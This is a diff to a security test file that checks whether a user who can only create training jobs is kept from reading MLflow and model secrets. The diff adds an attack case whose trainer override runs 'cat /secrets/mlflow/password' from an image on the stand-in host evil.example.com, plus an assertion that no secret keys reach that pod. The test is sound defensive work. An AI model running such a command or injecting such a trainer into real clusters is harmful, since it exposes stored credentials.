@@ -145,6 +145,10 @@ ATTEMPTS: dict[str, dict[str, Any]] = {
     "security": at("podOverrides[].securityContext", {"runAsUser": 0}),
     "model": at("model.credentials.secretName", CANARY),
     "tracking": at("tracking.mlflow.credentialsSecretName", CANARY),
+    "own-trainer": both(
+        at("trainer", {"command": ["cat", "/secrets/mlflow/password"], "image": "evil.example.com/x:1"}),
+        at("tracking.mlflow.credentialsSecretName", CANARY),
+    ),
     "pull-secret": at("podOverrides[].imagePullSecrets", [{"name": CANARY}]),
 }
 NEVER_ACCEPTED = {"env-from-secret", "volume", "projected", "preload", "account"}
@@ -192,4 +196,6 @@ async def test_who_may_only_create_jobs_reads_no_secret(
             assert spec["automountServiceAccountToken"] is False
             assert spec.get("serviceAccountName", "default") == "default"
             assert "secretKeyRef" not in json.dumps(spec["containers"])
+            if spec["containers"][0]["image"].startswith("evil"):
+                assert keys == set()
             assert "password" not in json.dumps(spec)
